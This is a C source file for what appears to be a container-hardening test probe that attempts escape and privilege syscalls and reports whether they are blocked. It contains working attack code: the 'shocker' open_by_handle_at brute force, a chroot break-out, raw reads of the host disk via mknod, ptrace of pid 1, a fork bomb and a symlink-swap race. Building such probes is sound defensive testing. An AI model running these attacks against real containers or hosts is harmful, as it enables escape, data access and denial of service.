/* Attack probe for tests/security: run inside a container, one attack per argument.
 *
 *   probe ATTACK[:ARG[:ARG]] ...
 *
 * prints one line per attack, "<attack as given> <RESULT> [detail]", where RESULT is
 * OK when the attack's syscall succeeded, else the errno's name (EPERM, EROFS, ...),
 * or a word the attack defines (CONTAINED/ESCAPED, a byte count). The tests decide
 * what counts as held; this program only reports. Where success could hurt the host
 * (reboot, kexec, acct, clock, sysrq) the arguments are chosen so that a kernel that
 * lets the call through stops at a harmless check right after the capability check
 * (bad magic, bad flags, missing file, the current time), which still tells the
 * capability apart from a denial.
 *
 * Built by the tests with `gcc -static -O2` (x86_64 syscall numbers via <sys/syscall.h>).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif

static const char *cur; /* the attack being run, as given */

static void report(const char *result, const char *detail)
{
    printf("%s %s%s%s\n", cur, result, detail ? " " : "", detail ? detail : "");
    fflush(stdout);
}

/* the usual shape: rc < 0 reports errno's name, anything else OK */
static void result(long rc)
{
    if (rc < 0) {
        const char *name = strerrorname_np(errno);
        report(name ? name : "EUNKNOWN", NULL);
    } else {
        report("OK", NULL);
    }
}

static const char *arg(char **args, int i, const char *dflt)
{
    return args[i] ? args[i] : dflt;
}

/* ---- mounts ---------------------------------------------------------------- */

static const char *scratch(void)
{
    mkdir("/tmp", 01777);
    mkdir("/tmp/probe-mnt", 0755);
    return "/tmp/probe-mnt";
}

static void a_mount(char **args)
{
    const char *fs = arg(args, 1, "tmpfs");
    if (strcmp(fs, "bind") == 0)
        result(mount("/", scratch(), NULL, MS_BIND | MS_REC, NULL));
    else if (strcmp(fs, "remount") == 0) /* make a read-only mount writable */
        result(mount(NULL, arg(args, 2, "/proc/sys"), NULL, MS_REMOUNT | MS_BIND, NULL));
    else
        result(mount(fs, scratch(), fs, 0, NULL));
}

static void a_umount(char **args)
{
    /* unmasking: the masks over /proc/kcore etc. are mounts */
    result(umount2(arg(args, 1, "/proc/kcore"), MNT_DETACH));
}

static void a_fsopen(char **args)
{
    (void)args;
    long fd = syscall(SYS_fsopen, "tmpfs", 0);
    result(fd);
    if (fd >= 0)
        close(fd);
}

static void a_open_tree(char **args)
{
    long fd = syscall(SYS_open_tree, AT_FDCWD, arg(args, 1, "/"), 1 /* OPEN_TREE_CLONE */);
    result(fd);
    if (fd >= 0)
        close(fd);
}

static void a_pivot_root(char **args)
{
    (void)args;
    result(syscall(SYS_pivot_root, ".", "."));
}

static void a_swapon(char **args)
{
    /* the capability check comes before the path lookup: ENOENT would mean allowed */
    result(swapon(arg(args, 1, "/nonexistent-swap"), 0));
}

/* ---- namespaces ------------------------------------------------------------ */

static int ns_flag(const char *name)
{
    static const struct { const char *n; int f; } t[] = {
        {"mnt", CLONE_NEWNS}, {"user", CLONE_NEWUSER}, {"net", CLONE_NEWNET},
        {"pid", CLONE_NEWPID}, {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
        {"cgroup", CLONE_NEWCGROUP}, {"time", CLONE_NEWTIME},
    };
    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++)
        if (strcmp(t[i].n, name) == 0)
            return t[i].f;
    return -1;
}

static void a_unshare(char **args)
{
    result(unshare(ns_flag(arg(args, 1, "mnt"))));
}

/* clone(2) with a namespace flag, in a child that exits at once */
static void a_clone(char **args)
{
    long pid = syscall(SYS_clone, ns_flag(arg(args, 1, "user")) | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    result(pid);
}

static void a_clone3(char **args)
{
    uint64_t cl[11] = {0};
    cl[0] = ns_flag(arg(args, 1, "user"));
    cl[4] = SIGCHLD; /* exit_signal */
    long pid = syscall(SYS_clone3, cl, sizeof cl);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    result(pid);
}

static void a_setns(char **args)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/1/ns/%s", arg(args, 1, "mnt"));
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        result(-1);
        return;
    }
    result(setns(fd, 0));
    close(fd);
}

/* ---- files under /proc and /sys --------------------------------------------- */

/* open for writing and, when that works, write PAYLOAD (or the file's own contents) */
static void a_write(char **args)
{
    const char *path = arg(args, 1, "/proc/sys/kernel/hostname");
    char buf[256] = "";
    const char *payload = args[1] && args[2] ? args[2] : NULL;
    if (!payload) {
        int r = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t n = r >= 0 ? read(r, buf, sizeof buf - 1) : -1;
        buf[n > 0 ? n : 0] = 0;
        if (r >= 0)
            close(r);
        payload = buf;
    }
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        result(-1);
        return;
    }
    result(write(fd, payload, strlen(payload) ? strlen(payload) : 1));
    close(fd);
}

/* only open for writing: for files where any write could do harm (PCI config space) */
static void a_openw(char **args)
{
    int fd = open(arg(args, 1, "/proc/bus/pci/devices"), O_WRONLY | O_CLOEXEC);
    result(fd);
    if (fd >= 0)
        close(fd);
}

static void a_mkdir(char **args)
{
    const char *path = arg(args, 1, "/proc/bus/probe");
    long rc = mkdir(path, 0755);
    result(rc);
    if (rc == 0)
        rmdir(path);
}

/* how many bytes a read gives (a masked file reads as /dev/null: 0) */
static void a_read(char **args)
{
    int fd = open(arg(args, 1, "/proc/kcore"), O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        result(-1);
        return;
    }
    char buf[4096], n[32];
    ssize_t got = read(fd, buf, sizeof buf);
    close(fd);
    if (got < 0) {
        result(-1);
        return;
    }
    snprintf(n, sizeof n, "%zd", got);
    report("READ", n);
}

static void a_statfs(char **args)
{
    struct statvfs st;
    if (statvfs(arg(args, 1, "/sys"), &st) < 0)
        result(-1);
    else
        report(st.f_flag & ST_RDONLY ? "RO" : "RW", NULL);
}

/* ---- kernel-wide syscalls ------------------------------------------------- */

static void a_init_module(char **args)
{
    (void)args;
    static char image[64]; /* not an ELF: a kernel that lets us in says ENOEXEC */
    result(syscall(SYS_init_module, image, sizeof image, ""));
}

static void a_finit_module(char **args)
{
    (void)args;
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    result(syscall(SYS_finit_module, fd, "", 0));
    close(fd);
}

static void a_delete_module(char **args)
{
    result(syscall(SYS_delete_module, arg(args, 1, "probe_no_such_module"), O_NONBLOCK));
}

static void a_kexec_load(char **args)
{
    (void)args;
    /* an architecture nobody has: past the capability check this is EINVAL */
    result(syscall(SYS_kexec_load, 0, 0, NULL, 0x7fff0000UL));
}

static void a_kexec_file_load(char **args)
{
    (void)args;
    result(syscall(SYS_kexec_file_load, -1, -1, 0, "", 0x7fff0000UL));
}

static void a_reboot(char **args)
{
    (void)args;
    /* a bad second magic: EPERM before the magic check means no CAP_SYS_BOOT */
    result(syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, 0, LINUX_REBOOT_CMD_CAD_OFF, NULL));
}

static void a_acct(char **args)
{
    result(acct(arg(args, 1, "/nonexistent-acct")));
}

static void a_iopl(char **args)
{
    (void)args;
    result(iopl(3));
}

static void a_ioperm(char **args)
{
    (void)args;
    result(ioperm(0x80, 1, 1));
}

static void a_clock_settime(char **args)
{
    (void)args;
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now); /* set what it is: harmless if let through */
    result(clock_settime(CLOCK_REALTIME, &now));
}

static void a_settimeofday(char **args)
{
    (void)args;
    struct timeval now;
    gettimeofday(&now, NULL);
    result(settimeofday(&now, NULL));
}

static void a_adjtimex(char **args)
{
    (void)args;
    struct timex tx = {.modes = ADJ_OFFSET_SINGLESHOT, .offset = 0};
    result(syscall(SYS_adjtimex, &tx));
}

/* ---- keys, bpf, perf, userfaultfd ------------------------------------------ */

static void a_add_key(char **args)
{
    (void)args;
    result(syscall(SYS_add_key, "user", "kade-probe", "x", 1, -3 /* session */));
}

static void a_keyctl(char **args)
{
    (void)args;
    result(syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, "kade-probe"));
}

static void a_request_key(char **args)
{
    (void)args;
    result(syscall(SYS_request_key, "user", "kade-probe", NULL, 0));
}

static void a_bpf(char **args)
{
    (void)args;
    struct bpf_insn prog[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insn_cnt = 2;
    attr.insns = (uintptr_t)prog;
    attr.license = (uintptr_t)"GPL";
    long fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
    result(fd);
    if (fd >= 0)
        close(fd);
}

static void a_perf_event_open(char **args)
{
    (void)args;
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.type = PERF_TYPE_SOFTWARE;
    pe.size = sizeof pe;
    pe.config = PERF_COUNT_SW_CPU_CLOCK;
    pe.disabled = 1;
    long fd = syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0);
    result(fd);
    if (fd >= 0)
        close(fd);
}

static void a_userfaultfd(char **args)
{
    (void)args;
    long fd = syscall(SYS_userfaultfd, O_CLOEXEC);
    result(fd);
    if (fd >= 0)
        close(fd);
}

/* ---- the shocker (open_by_handle_at) -------------------------------------- */

struct handle8 {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[8];
};

/* open a handle through the fd of a file bind-mounted from the host (shocker used
 * /.dockerinit; /etc/hostname is one here): OK means a host inode was opened */
static void a_open_by_handle(char **args)
{
    int mfd = open(arg(args, 1, "/etc/hostname"), O_RDONLY | O_CLOEXEC);
    if (mfd < 0) {
        result(-1);
        return;
    }
    /* the crafted handle {8, type 1 (ino32+gen), ino 2 (ext4's root), gen 0},
     * then a short brute force over generations and the roots of other filesystems */
    static const uint32_t inodes[] = {2, 128, 256};
    long rc = -1;
    int first = 0;
    for (size_t i = 0; i < 3 && rc < 0; i++) {
        for (uint32_t gen = 0; gen < 8 && rc < 0; gen++) {
            struct handle8 h = {.handle_bytes = 8, .handle_type = 1};
            memcpy(h.f_handle, &inodes[i], 4);
            memcpy(h.f_handle + 4, &gen, 4);
            rc = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
            if (rc < 0 && !first)
                first = errno;
        }
    }
    if (rc >= 0) {
        report("OK", "opened a host inode by handle");
        close(rc);
    } else {
        errno = first;
        result(-1);
    }
    close(mfd);
}

static void a_name_to_handle(char **args)
{
    struct { unsigned int b; int t; unsigned char h[128]; } fh = {.b = 128};
    int mount_id;
    result(syscall(SYS_name_to_handle_at, AT_FDCWD, arg(args, 1, "/etc/hostname"),
                   &fh, &mount_id, 0));
}

/* ---- where docker's seccomp profiles differ ---------------------------------- */

/* socket:FAMILY (a number: 40 AF_VSOCK, 38 AF_ALG, 1 AF_UNIX) */
static void a_socket(char **args)
{
    int family = atoi(arg(args, 1, "1"));
    result(socket(family, family == 38 ? SOCK_SEQPACKET : SOCK_STREAM, 0));
}

static void a_io_uring_setup(char **args)
{
    char params[120] = {0}; /* struct io_uring_params, zeroed */
    (void)args;
    result(syscall(__NR_io_uring_setup, 1, params));
}

/* read our own memory through the cross-process call */
static void a_process_vm_readv(char **args)
{
    char src[8] = "abcdefg", dst[8];
    struct iovec local = {dst, sizeof dst}, remote = {src, sizeof src};
    (void)args;
    result(process_vm_readv(getpid(), &local, 1, &remote, 1, 0));
}

/* ---- devices, processes, chroot -------------------------------------------- */

/* make a block node for MAJOR:MINOR (default the host's disk, 8:0) and read it */
static void a_blockdev(char **args)
{
    unsigned maj = atoi(arg(args, 1, "8")), min = atoi(arg(args, 2, "0"));
    const char *node = "/tmp/probe-disk";
    mkdir("/tmp", 01777);
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) < 0) {
        /* docker lets mknod through (its device cgroup allows 'm'); denying is stricter */
        report(strerrorname_np(errno), "at=mknod");
        return;
    }
    int fd = open(node, O_RDONLY | O_CLOEXEC);
    char buf[512];
    if (fd >= 0 && read(fd, buf, sizeof buf) > 0)
        report("OK", "read the disk");
    else
        report(strerrorname_np(errno), fd < 0 ? "at=open" : "at=read");
    if (fd >= 0)
        close(fd);
    unlink(node);
}

static void a_ptrace(char **args)
{
    pid_t pid = atoi(arg(args, 1, "1"));
    long rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
    result(rc);
    if (rc == 0)
        ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void a_kill(char **args)
{
    result(kill(atoi(arg(args, 1, "1")), 0)); /* signal 0: would it reach? */
}

/* the classic chroot break-out: chroot deeper, fchdir back out, climb "..", chroot
 * there; ESCAPED when MARKER (a file only the host has) is then visible */
static void a_chroot_escape(char **args)
{
    const char *marker = arg(args, 1, "/etc/kade-marker");
    pid_t pid = fork();
    if (pid == 0) {
        int fd = open("/", O_RDONLY | O_DIRECTORY);
        mkdir("/tmp", 01777);
        mkdir("/tmp/probe-jail", 0755);
        if (chroot("/tmp/probe-jail") < 0)
            _exit(2);
        if (fchdir(fd) < 0)
            _exit(3);
        for (int i = 0; i < 64; i++)
            if (chdir("..") < 0)
                _exit(4);
        if (chroot(".") < 0)
            _exit(5);
        _exit(access(marker, F_OK) == 0 ? 1 : 0);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    int code = WIFEXITED(status) ? WEXITSTATUS(status) : 99;
    report(code == 1 ? "ESCAPED" : code == 0 ? "CONTAINED" : "FAILED", NULL);
}

/* ---- resources ------------------------------------------------------------- */

/* fork children that wait until fork fails; report how many there were, why it
 * stopped, and pids.current of our cgroup at the peak */
static void a_forkbomb(char **args)
{
    int max = atoi(arg(args, 1, "100000"));
    int n = 0, err = 0;
    pid_t *kids = calloc(max, sizeof *kids);
    for (; n < max; n++) {
        pid_t p = fork();
        if (p == 0) {
            pause();
            _exit(0);
        }
        if (p < 0) {
            err = errno;
            break;
        }
        kids[n] = p;
    }
    char cur_pids[32] = "?";
    int fd = open("/sys/fs/cgroup/pids.current", O_RDONLY | O_CLOEXEC); /* v2 */
    if (fd < 0)
        fd = open("/sys/fs/cgroup/pids/pids.current", O_RDONLY | O_CLOEXEC); /* v1 */
    if (fd >= 0) {
        ssize_t r = read(fd, cur_pids, sizeof cur_pids - 1);
        cur_pids[r > 0 ? r - 1 : 0] = 0;
        close(fd);
    }
    for (int i = 0; i < n; i++)
        kill(kids[i], SIGKILL);
    for (int i = 0; i < n; i++)
        waitpid(kids[i], NULL, 0);
    char detail[96];
    snprintf(detail, sizeof detail, "forked=%d pids.current=%s", n, cur_pids);
    const char *why = err ? strerrorname_np(err) : "LIMIT";
    report(why ? why : "EUNKNOWN", detail);
    free(kids);
}

/* touch MB megabytes, a page at a time; reports only if it was not killed first */
static void a_hog(char **args)
{
    long mb = atol(arg(args, 1, "512"));
    long got = 0;
    for (; got < mb; got++) {
        char *p = malloc(1 << 20);
        if (!p)
            break;
        for (int i = 0; i < (1 << 20); i += 4096)
            p[i] = 1;
    }
    char detail[32];
    snprintf(detail, sizeof detail, "mb=%ld", got);
    report(got < mb ? "ENOMEM" : "OK", detail);
}

/* exchange A and B forever (renameat2 RENAME_EXCHANGE): a dir and a symlink swap
 * atomically under whoever walks the path */
static void a_swap(char **args)
{
    const char *a = arg(args, 1, "/race/d"), *b = arg(args, 2, "/race/link");
    report("RUNNING", NULL);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
            result(-1);
            return;
        }
}

/* run one attack in a child, so that one that succeeds (a new user namespace, a
 * mount) leaves the next attacks as unprivileged as the first */
static void isolated(void (*fn)(char **), char **args)
{
    pid_t pid = fork();
    if (pid < 0) {
        result(-1);
        return;
    }
    if (pid == 0) {
        fn(args);
        _exit(0);
    }
    int status;
    waitpid(pid, &status, 0);
    if (WIFSIGNALED(status)) {
        char sig[16];
        snprintf(sig, sizeof sig, "%d", WTERMSIG(status));
        report("KILLED", sig);
    }
}

static const struct {
    const char *name;
    void (*fn)(char **);
    int inplace; /* the attack is about this process (its pid count, its memory) */
} attacks[] = {
    {"mount", a_mount, 0}, {"umount", a_umount, 0}, {"fsopen", a_fsopen, 0},
    {"open_tree", a_open_tree, 0}, {"pivot_root", a_pivot_root, 0}, {"swapon", a_swapon, 0},
    {"unshare", a_unshare, 0}, {"clone", a_clone, 0}, {"clone3", a_clone3, 0}, {"setns", a_setns, 0},
    {"write", a_write, 0}, {"openw", a_openw, 0}, {"mkdir", a_mkdir, 0}, {"read", a_read, 0}, {"statfs", a_statfs, 0},
    {"init_module", a_init_module, 0}, {"finit_module", a_finit_module, 0},
    {"delete_module", a_delete_module, 0}, {"kexec_load", a_kexec_load, 0},
    {"kexec_file_load", a_kexec_file_load, 0}, {"reboot", a_reboot, 0}, {"acct", a_acct, 0},
    {"iopl", a_iopl, 0}, {"ioperm", a_ioperm, 0}, {"clock_settime", a_clock_settime, 0},
    {"settimeofday", a_settimeofday, 0}, {"adjtimex", a_adjtimex, 0}, {"add_key", a_add_key, 0},
    {"keyctl", a_keyctl, 0}, {"request_key", a_request_key, 0}, {"bpf", a_bpf, 0},
    {"perf_event_open", a_perf_event_open, 0}, {"userfaultfd", a_userfaultfd, 0},
    {"open_by_handle", a_open_by_handle, 0}, {"name_to_handle", a_name_to_handle, 0},
    {"blockdev", a_blockdev, 0}, {"ptrace", a_ptrace, 0}, {"kill", a_kill, 0},
    {"chroot_escape", a_chroot_escape, 0}, {"forkbomb", a_forkbomb, 1}, {"hog", a_hog, 1},
    {"swap", a_swap, 1}, {"socket", a_socket, 0}, {"io_uring_setup", a_io_uring_setup, 0},
    {"process_vm_readv", a_process_vm_readv, 0},
};

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        char *spec = strdup(argv[i]), *args[4] = {0};
        int n = 0;
        for (char *tok = strtok(spec, ":"); tok && n < 3; tok = strtok(NULL, ":"))
            args[n++] = tok;
        cur = argv[i];
        size_t k = 0;
        for (; k < sizeof attacks / sizeof attacks[0]; k++)
            if (args[0] && strcmp(attacks[k].name, args[0]) == 0)
                break;
        if (k == sizeof attacks / sizeof attacks[0])
            report("UNKNOWN", NULL);
        else if (attacks[k].inplace)
            attacks[k].fn(args);
        else
            isolated(attacks[k].fn, args);
        errno = 0;
        free(spec);
    }
    return 0;
}
